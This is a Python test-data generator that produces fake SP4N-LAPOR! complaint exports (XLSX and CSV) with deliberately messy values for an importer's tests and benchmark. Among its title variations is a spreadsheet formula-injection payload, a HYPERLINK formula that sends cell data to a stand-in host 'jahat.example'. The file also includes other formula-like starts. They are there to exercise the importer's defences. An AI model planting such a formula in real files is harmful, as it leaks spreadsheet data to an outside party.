"""Generate files shaped like the SP4N-LAPOR! admin export, for tests and bench/lapor_import.py."""

import csv
import datetime as dt
import random

from lapor import columns as c
from lapor.parsing import format_date, parse_date

INFO_ROWS = [
    ["Daftar Laporan"],
    ["Instansi", "Pemerintah Kota Blitar"],
    ["Tanggal Unduh", "28 Nov 2026 09:15"],
    [],
]
STATUSES = [
    "Belum Terverifikasi",
    "Terverifikasi",
    "Terdisposisi ke Dinas Perhubungan",
    "Ditindaklanjuti oleh Instansi",
    "Selesai otomatis dalam 10 hari",
    "Ditutup oleh Admin",
    "Diarsipkan oleh Admin",
]
CATEGORIES = [("101", "Lampu Penerangan Jalan Umum"), ("102", "Parkir Liar"), ("103", "Jalan Berlubang")]
AGENCIES = [("9001", "Dinas Perhubungan"), ("9002", "Dinas Pekerjaan Umum dan Penataan Ruang")]


def row(tracking_id, **overrides) -> dict:
    values = {
        c.TRACKING_ID: str(tracking_id),
        c.DATE: "3 Jan 2026",
        c.TIME: "14:05:33",
        c.REPORTER_NAME: "Budi Santoso",
        c.CLASSIFICATION: "Pengaduan",
        c.CATEGORY_ID: "101",
        c.CATEGORY: "Lampu Penerangan Jalan Umum",
        c.TITLE: "Lampu jalan mati",
        c.TEXT_INITIAL: "Lampu jalan di Jl. Merdeka mati sejak minggu lalu.",
        c.TEXT_FINAL: "Lampu jalan di Jl. Merdeka depan pasar mati sejak minggu lalu.",
        c.TYPE: "",
        c.SOURCE: "Website",
        c.PARENT_AGENCY: "Pemerintah Kota Blitar",
        c.AGENCY_ID: "9001",
        c.AGENCY: "Dinas Perhubungan",
        c.STATUS: "Terdisposisi ke Dinas Perhubungan",
        c.HOLD_REASON: "",
        c.PROVINCE: "Jawa Timur",
        c.CITY: "Kota Blitar",
        c.KECAMATAN: "Sananwetan",
        c.KELURAHAN: "Bendogerit",
        c.DECREE_NUMBER: "188/12/410.010/2026",
        c.DECREE_URL: "https://lapor.go.id/sk/12.pdf",
        c.ANNUAL_REPORT_URL: "",
        c.SETWAPRES: "Tidak",
        c.RATING: "",
    }
    values.update(overrides)
    return values


def random_rows(count, *, start_id=4_000_000, seed=7, varied=False):
    """``count`` rows: every status, category and agency above, dates over 2025.

    ``varied``: also the ways real exports differ from these tidy rows (``VARIATIONS``:
    other spellings of dates, times, zones, classifications, types and ratings; texts with
    line breaks, formula-like starts or control characters; values too long; unmapped or
    missing categories and agencies; every LAPOR! status), and now and then a report listed
    again a few rows further down with a later status, as LAPOR! does when a status changes.
    The tidy rows stay the same rows (the benchmark's file does not change)."""
    rng = random.Random(seed)
    vary = random.Random(seed + 1) if varied else None
    later = []  # (index after which to list it again, row)
    first = dt.date(2025, 1, 1)
    for index in range(count):
        category_id, category = rng.choice(CATEGORIES)
        agency_id, agency = rng.choice(AGENCIES)
        status = rng.choice(STATUSES)
        day = first + dt.timedelta(days=rng.randrange(330))
        words = " ".join(rng.choice(["lampu", "jalan", "mati", "parkir", "rusak", "berlubang", "warga", "mohon"])
                         for _ in range(rng.randrange(20, 60)))  # fmt: skip
        values = row(
            start_id + index,
            **{
                c.DATE: format_date(day),
                c.TIME: f"{rng.randrange(24):02d}:{rng.randrange(60):02d}",
                c.REPORTER_NAME: f"Pelapor {index}",
                c.CATEGORY_ID: category_id,
                c.CATEGORY: category,
                c.AGENCY_ID: agency_id,
                c.AGENCY: agency,
                c.STATUS: status.replace("Dinas Perhubungan", agency),
                c.TITLE: f"Laporan {index}",
                c.TEXT_INITIAL: words,
                c.TEXT_FINAL: words,
                c.TYPE: rng.choice(["", "", "", "Anonim", "Rahasia", "Anonim, Rahasia"]),
                c.RATING: rng.choice(["", "", "4", "5", "3"]),
            },
        )
        if vary is None:
            yield values
            continue
        for _ in range(vary.choice([0, 1, 1, 2, 3])):
            vary.choice(VARIATIONS)(vary, values)
        yield values
        if vary.random() < 0.06:
            again = dict(values, **{c.STATUS: vary.choice(LATER_STATUSES).replace("{agency}", values[c.AGENCY] or "-")})
            later.append((index + vary.randrange(1, 40), again))
        for item in [item for item in later if item[0] <= index]:
            later.remove(item)
            yield item[1]
    yield from (item[1] for item in later)


ID_MONTHS = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September", "Oktober",
             "November", "Desember"]  # fmt: skip
LATER_STATUSES = ["Terdisposisi ke {agency}", "Ditindaklanjuti oleh Instansi", "Ditanggapi oleh Pelapor",
                  "Selesai otomatis dalam 10 hari", "Ditutup oleh Sistem", "Diarsipkan oleh Sistem"]  # fmt: skip


def _day(values) -> dt.date:
    return parse_date(values[c.DATE])


def _zoned_time_near_midnight(rng, values):
    hour, zone = rng.choice(["00", "01", "23"]), rng.choice(["WITA", "WIT", "wita"])
    values[c.TIME] = f"{hour}:{rng.randrange(60):02d} {zone}"


def _line_breaks(rng, values):
    values[c.TEXT_FINAL] = values[c.TEXT_FINAL].replace(" mohon ", ".\r\nMohon ", 1) + "\r\n\r\nTerima kasih."


def _pair(id_column, name_column, pairs):
    """A LAPOR! ID always comes with the same name."""
    return lambda rng, values: values.update(dict(zip((id_column, name_column), rng.choice(pairs), strict=True)))


def _set(**changes):
    return lambda rng, values: values.update({name: rng.choice(options) for name, options in changes.items()})


VARIATIONS = [
    _set(**{c.TIME: ["", "07.15", "7:05", "23:59:59", "08:00 WIB"]}),
    _zoned_time_near_midnight,
    lambda rng, v: v.update({c.DATE: f"{_day(v).day} {ID_MONTHS[_day(v).month - 1]} {_day(v).year}"}),
    lambda rng, v: v.update({c.DATE: rng.choice([_day(v).isoformat(), f"{_day(v):%d/%m/%Y}"])}),
    _set(**{c.CLASSIFICATION: ["pengaduan", "Aspirasi", "Permintaan Informasi", "", "Whistleblowing"]}),
    _set(**{c.TYPE: ["anonim", "Rahasia, Anonim", "Tidak", "-", "RAHASIA"]}),
    _set(**{c.RATING: ["4.0", "5,0", "0", "6", "baik", "3"]}),
    lambda rng, v: v.update({c.TEXT_FINAL: ""}),
    _line_breaks,
    _set(**{c.TITLE: ['=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "+62 812 3456 7890 lampu mati",
                      "- jalan berlubang", "@dishub tolong", "'Lampu' mati", "''=1+1"]}),
    lambda rng, v: v.update({c.TEXT_INITIAL: "=1+2 " + v[c.TEXT_INITIAL], c.TEXT_FINAL: "-" + v[c.TEXT_FINAL]}),
    lambda rng, v: v.update({c.TEXT_FINAL: v[c.TEXT_FINAL] + "\x0bdisalin dari Word\x07"}),
    lambda rng, v: v.update({c.TITLE: "Judul yang sangat panjang " * 10, c.REPORTER_NAME: "Nama Panjang " * 12}),
    lambda rng, v: v.update({c.TITLE: "  " + v[c.TITLE] + "  ", c.REPORTER_NAME: v[c.REPORTER_NAME] + " "}),
    _set(**{c.KELURAHAN: ["BENDOGERIT", "bendogerit", "Kauman", ""], c.KECAMATAN: ["", "SANANWETAN", "Sananwetan"]}),
    _pair(c.CATEGORY_ID, c.CATEGORY, [("555", "Pohon Tumbang"), ("", "Parkir Liar"), ("556", "Baliho"), ("", "")]),
    _pair(c.AGENCY_ID, c.AGENCY, [("777", "Badan Pendapatan Daerah"), ("", "Dinas PUPR"), ("", "")]),
    _set(**{c.STATUS: ["Ditanggapi oleh Pelapor", "Ditutup oleh Sistem", "Diarsipkan oleh Sistem",
                       "Ditindaklanjuti  oleh  Instansi", "Selesai otomatis dalam 10 hari"]}),
    lambda rng, v: v.update({c.STATUS: "Belum Terverifikasi", c.AGENCY_ID: "", c.AGENCY: ""}),
    _set(**{c.DECREE_NUMBER: ["", "188/45/410.010/2025"], c.SETWAPRES: ["Ya", "", "Tidak"]}),
]  # fmt: skip


def write_xlsx(path, rows, *, columns=None, info_rows=INFO_ROWS):
    import openpyxl

    columns = columns or c.COLUMNS
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Laporan")
    for info in info_rows:
        sheet.append(info)
    sheet.append(columns)
    for values in rows:
        # An XLSX cannot hold control characters (XML): a real export has none either.
        sheet.append([_xml_safe(values.get(name, "")) for name in columns])
    workbook.save(path)
    return path


def _xml_safe(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def write_csv(path, rows, *, columns=None, info_rows=INFO_ROWS, encoding="utf-8-sig", delimiter=","):
    columns = columns or c.COLUMNS
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        for info in info_rows:
            writer.writerow(info)
        writer.writerow(columns)
        for values in rows:
            writer.writerow([values.get(name, "") for name in columns])
    return path
